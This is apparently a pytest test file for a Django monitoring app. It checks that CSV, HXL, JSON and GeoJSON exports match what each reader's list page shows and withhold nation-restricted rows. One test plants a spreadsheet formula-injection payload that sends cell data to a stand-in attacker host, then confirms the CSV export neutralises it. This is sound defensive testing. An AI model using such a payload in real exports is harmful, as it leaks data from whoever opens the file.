"""Every list's exports, in every format it has, hold exactly the rows its page shows the same
reader with the same filters, and nothing that reader may not read; HXL has its tag row, GeoJSON
is a FeatureCollection, spreadsheet formulas are neutralised, and the queries do not grow with
the rows."""

from __future__ import annotations

import csv
import io
import json
from typing import Any

import pytest
from django.contrib.auth.models import AnonymousUser
from django.db import connection, transaction
from django.test import Client
from django.test.utils import CaptureQueriesContext

from marsad.core import listing
from marsad.core.services import gate
from tests.conftest import SYSTEM

# The column that names a row in each list's export, and how the page's row gives it.
IDENTITY = {
    "documents": ("id", lambda r: r.pk),
    "claims": ("id", lambda r: r.pk),
    "statements": ("id", lambda r: r.pk),
    "incidents": ("event_id", lambda r: r.event_id),
    "figures": ("id", lambda r: r.pk),
    "consignments": ("key", lambda r: r.key),
    "pledges": ("id", lambda r: r.pk),
    "plan-points": ("number", lambda r: r["provision"].number),
}

# A filter of each list that keeps some of the demo's rows and leaves out others.
FILTERS = {
    "documents": {"language": "en"},
    "claims": {"review_state": "accepted"},
    "statements": {"refusals_only": "1"},
    "incidents": {"verification": "reported"},
    "figures": {"source": "GAZA-MOH"},
    "consignments": {"category": "food"},
    "pledges": {"kind": "troops"},
    "plan-points": {"category": "security"},
}


def _client(user: Any = None) -> Client:
    client = Client()
    if user is not None:
        client.force_login(user)
    return client


def _body(response: Any) -> str:
    return b"".join(response.streaming_content).decode()


def exported(client: Client, key: str, fmt: str, params: dict[str, str] | None = None) -> Any:
    """The rows of an export as dictionaries (GeoJSON: the features' properties, and the
    metadata)."""
    response = client.get(f"/exports/{key}.{fmt}", params or {})
    assert response.status_code == 200, (key, fmt, response.status_code)
    text = _body(response)
    if fmt == "json":
        return json.loads(text)
    if fmt == "geojson":
        return json.loads(text)
    lines = io.StringIO(text)
    reader = csv.reader(lines)
    header = next(reader)
    if fmt == "hxl.csv":
        tags = next(reader)
        assert all(tag.startswith("#") for tag in tags), tags
    return [dict(zip(header, row, strict=True)) for row in reader]


def page_identities(client: Client, key: str, params: dict[str, str] | None = None) -> set[str]:
    """What the list's page shows (every page of it), by the export's identity column."""
    spec = listing.by_key(key)
    assert spec is not None
    from django.urls import reverse

    response = client.get(reverse(spec.url_name), params or {})
    assert response.status_code == 200
    _column, identity = IDENTITY[key]
    if "rows" in response.context and key == "plan-points":
        rows = response.context["rows"]
    else:
        rows = response.context["page"].paginator.object_list
    return {str(identity(row)) for row in rows}


def identities(key: str, fmt: str, found: Any) -> set[str]:
    column, _identity = IDENTITY[key]
    if fmt == "geojson":
        return {str(f["properties"][column]) for f in found["features"]}
    return {str(row[column]) for row in found}


def hidden_copy(key: str, nations: tuple[str, ...] = ("ITA",), n: int = 1) -> list[Any]:
    """Copies of a public row of the list, released only to `nations` (or more public copies
    with `nations=()`), stored through the gate."""
    spec = listing.by_key(key)
    assert spec is not None
    # A public row: a public copy then names nothing narrower than itself.
    source = next(iter(spec.rows(AnonymousUser(), spec.parse({}))))
    if isinstance(source, dict):
        source = source["provision"]
    made = []
    model = type(source)
    with transaction.atomic():
        for index in range(n):
            copy = model._default_manager.get(pk=source.pk)
            copy.pk = None
            copy.id = None
            copy._state.adding = True
            if hasattr(copy, "event_id"):
                copy.event_id = f"HIDDEN-{key}-{index}-{len(nations)}"
            if key == "consignments":
                copy.key = f"HIDDEN-{index}-{len(nations)}"
            if key == "plan-points":
                copy.number = 90 + index + 5 * len(nations)
            if hasattr(copy, "sanitized_reason"):
                copy.sanitized_reason = ""
            marking = "nations" if nations else "public"
            made.append(gate.store(copy, by=SYSTEM, marking=marking, releasable_to=nations))
    return made


@pytest.mark.parametrize("key", sorted(IDENTITY))
def test_every_format_holds_what_the_page_shows_and_no_more(demo, demo_users, key):
    spec = listing.by_key(key)
    [secret] = hidden_copy(key)
    secret_id = str(IDENTITY[key][1]({"provision": secret} if key == "plan-points" else secret))
    for name in ("ita", "fra", "reader"):
        client = _client(demo_users[name])
        for params in ({}, FILTERS[key]):
            shown = page_identities(client, key, params)
            for fmt in spec.formats:
                found = exported(client, key, fmt, params)
                ids = identities(key, fmt, found)
                if fmt == "geojson":
                    # Rows without a place are counted, not shown.
                    assert ids <= shown
                    meta = found["metadata"]
                    assert meta["exported"] + meta["left_out_without_place"] == len(shown)
                else:
                    assert ids == shown, (name, key, fmt, params)
                if name != "ita":
                    assert secret_id not in ids, (name, key, fmt)
        if name == "ita":
            assert secret_id in page_identities(client, key)
    unfiltered = page_identities(_client(demo_users["analyst"]), key)
    filtered = page_identities(_client(demo_users["analyst"]), key, FILTERS[key])
    assert filtered, key
    assert filtered < unfiltered, key


def test_the_italian_copy_is_in_the_italian_csv_and_not_the_french(demo, demo_users):
    [secret] = hidden_copy("incidents")
    ita = exported(_client(demo_users["ita"]), "incidents", "csv")
    fra = exported(_client(demo_users["fra"]), "incidents", "csv")
    assert secret.event_id in {row["event_id"] for row in ita}
    assert secret.event_id not in {row["event_id"] for row in fra}
    assert {row["marking"] for row in ita if row["event_id"] == secret.event_id} == {"nations:ITA"}


def test_figures_export_honours_its_filters(demo):
    client = _client()
    every = exported(client, "figures", "csv")
    sources = {row["source"] for row in every}
    assert len(sources) > 1
    kept = exported(client, "figures", "csv", {"source": "GAZA-MOH"})
    assert kept
    assert {row["source"] for row in kept} == {"GAZA-MOH"}
    assert len(kept) < len(every)
    # The first address of the export, kept working, honours them too.
    old = _body(client.get("/ceasefire/export/figures.csv", {"source": "GAZA-MOH"}))
    assert len(old.splitlines()) == len(kept) + 1
    dated = exported(client, "figures", "json", {"start": "2026-01-26", "end": "2026-01-26"})
    assert dated
    assert {row["reported_on"] for row in dated} == {"2026-01-26"}
    refused = client.get("/exports/figures.csv", {"start": "yesterday"})
    assert refused.status_code == 404


def test_hxl_exports_have_the_tag_row_and_lists_without_tags_have_none(demo):
    with_hxl = {spec.key for spec in listing.specs() if spec.hxl}
    assert with_hxl == {"incidents", "figures", "consignments", "pledges"}
    text = _body(_client().get("/exports/pledges.hxl.csv"))
    assert text.splitlines()[1].startswith("#meta+id,#country+code,")
    assert _client().get("/exports/documents.hxl.csv").status_code == 404


def test_geojson_is_a_feature_collection_of_points(demo):
    with_places = {spec.key for spec in listing.specs() if spec.point is not None}
    assert with_places == {"incidents", "figures", "consignments"}
    for key in sorted(with_places):
        found = exported(_client(), key, "geojson")
        assert found["type"] == "FeatureCollection"
        assert found["features"], key
        for feature in found["features"]:
            assert feature["type"] == "Feature"
            assert feature["geometry"]["type"] == "Point"
            lon, lat = feature["geometry"]["coordinates"]
            assert 34 < lon < 35.5, (key, lon)
            assert 29 < lat < 33, (key, lat)
            assert "marking" in feature["properties"]


def test_every_export_has_a_marking_and_iso_dates(demo):
    for spec in listing.specs():
        assert spec.columns[-1].name == "marking", spec.key
    rows = exported(_client(), "incidents", "json")
    assert rows
    assert all(len(row["event_date"]) == 10 and row["marking"] for row in rows)
    assert rows[0]["event_date"][4] == "-"


def test_formula_cells_are_neutralised(demo):
    [pledge] = hidden_copy("pledges", nations=())
    pledge.conditions = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    with transaction.atomic():
        gate.store(pledge, by=SYSTEM)
    rows = exported(_client(), "pledges", "csv")
    [cell] = [row["conditions"] for row in rows if row["id"] == str(pledge.pk)]
    assert cell.startswith("'=HYPERLINK")
    # JSON is data, not a spreadsheet: the text stays as written.
    [raw] = [
        r["conditions"] for r in exported(_client(), "pledges", "json") if r["id"] == pledge.pk
    ]
    assert raw.startswith("=HYPERLINK")


def _queries(client: Client, url: str) -> int:
    with CaptureQueriesContext(connection) as captured:
        response = client.get(url)
        _body(response) if response.streaming else response.content
    return len(captured)


@pytest.mark.parametrize("key", sorted(IDENTITY))
def test_export_queries_do_not_grow_with_the_rows(demo, demo_users, key):
    client = _client(demo_users["ita"])
    spec = listing.by_key(key)
    before = {fmt: _queries(client, f"/exports/{key}.{fmt}") for fmt in spec.formats}
    hidden_copy(key, nations=(), n=3)
    hidden_copy(key, n=3)
    after = {fmt: _queries(client, f"/exports/{key}.{fmt}") for fmt in spec.formats}
    assert after == before, key


def test_the_command_line_export_is_the_same_export(demo):
    from typer.testing import CliRunner

    from marsad.cli import app

    result = CliRunner().invoke(app, ["ceasefire", "export", "figures", "--format", "hxl"])
    assert result.exit_code == 0, result.output
    lines = result.output.splitlines()
    assert lines[0].startswith("id,incident,period_start")
    assert lines[1].startswith("#meta+id,#event+id")
    assert len(lines) - 2 == len(exported(_client(), "figures", "csv"))


@pytest.mark.parametrize(
    ("key", "api", "params", "field"),
    [
        ("documents", "/api/v1/documents", {"language": "en", "q": "Ital"}, "id"),
        (
            "figures",
            "/api/v1/ceasefire/figures",
            {"source": "GAZA-MOH", "start": "2026-01-01"},
            "id",
        ),
        ("pledges", "/api/v1/coalition/pledges", {"kind": "troops", "negative": "0"}, "id"),
        (
            "plan-points",
            "/api/v1/plan/provisions",
            {"category": "security", "score": "0"},
            "number",
        ),
    ],
)
def test_the_lists_apis_take_the_same_filters(demo, demo_users, key, api, params, field):
    client = _client(demo_users["ita"])
    answer = client.get(api, {**params, "page_size": 500}).json()
    items = answer["items"] if isinstance(answer, dict) else answer
    from_api = {str(item[field]) for item in items}
    assert from_api == identities(key, "json", exported(client, key, "json", params))
    assert from_api, key
